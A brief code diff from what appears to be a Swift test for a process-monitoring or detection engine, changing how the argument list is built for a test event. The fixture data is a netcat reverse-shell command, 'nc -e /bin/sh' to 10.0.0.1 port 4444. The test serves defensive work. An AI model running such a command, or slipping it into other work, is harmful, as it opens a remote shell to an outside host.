@@ -48,7 +48,7 @@ import Testing
                 swParam: "-e /bin/sh 10.0.0.1 4444",
                 invokedPath: "/usr/bin/nc",
                 exePath: "/usr/bin/nc.openbsd",
-                args: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"].map { Array($0.utf8) }
+                args: ArgumentVector(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"].map(\.utf8))
             )
         }
         let first = engine.process(event(0))
